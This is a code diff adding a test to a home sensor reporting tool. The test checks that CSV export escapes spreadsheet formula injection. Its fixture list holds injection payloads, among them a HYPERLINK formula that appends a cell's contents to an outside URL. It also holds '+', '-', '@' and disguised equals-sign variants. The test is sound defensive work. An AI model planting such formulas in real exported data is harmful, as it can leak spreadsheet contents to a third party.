@@ -3,7 +3,8 @@ import { parse as parseCsv } from 'csv-parse/sync';
 import parsePrometheus from 'parse-prometheus-text-format';
 import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { readingsDatabase } from '../../../lib/store/readings-database';
-import { homeWithHistory, reportHome } from '../../support/report-home';
+import { cycleOf, hueReading } from '../../support/cycles';
+import { homeWithHistory, reportHome, store } from '../../support/report-home';
 import { silentLogger } from '../../support/storage';
 
 /** The snapshots show local times. */
@@ -71,6 +72,25 @@ test('csv', async () => {
   expect(rows).toHaveLength(8);
   expect(rows[3]).toMatchObject({ device_id: 'alexa:G1', humidity_percent: '45', co_ppm: '0', light_lux: '' });
   expect(rows.map((row) => row['location'])).toContain('Küche "Süd", oben');
+});
+
+test('csv for a spreadsheet: no cell begins a formula; without the flag, texts are as they are', async () => {
+  const { report, config } = reportHome();
+  const names = ['=HYPERLINK("http://x/?"&A1)', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\uff1d1', 'Hall', "Bob's"];
+  const readings = names.map((location, index) =>
+    hueReading(`hue:${index}`, { location, temperature_celsius: -4.5, measured_at: '2026-01-02T11:59:00.000Z' }),
+  );
+  await store(config, [cycleOf('2026-01-02T11:59:00.000Z', 'hue', readings)]);
+  const rows = async (switches: string[]) => {
+    const { text } = await report({ format: 'csv' }, { switches });
+    return parseCsv(text, { columns: true }) as unknown as Record<string, string>[];
+  };
+  const locations = (await rows(['spreadsheet'])).map(({ location }) => location);
+  expect(locations).toEqual(names.map((name, index) => (index < 7 ? `'${name}` : name)));
+  const plain = await rows([]);
+  expect(plain.map(({ location }) => location)).toEqual(names);
+  expect(plain[0]?.['temperature_celsius']).toBe('-4.5');
+  await expect(report({ format: 'json' }, { switches: ['spreadsheet'] })).rejects.toMatchObject({ type: 'usage' });
 });
 
 test('csv, ndjson and influx give every reading of all time, in the order of time', async () => {
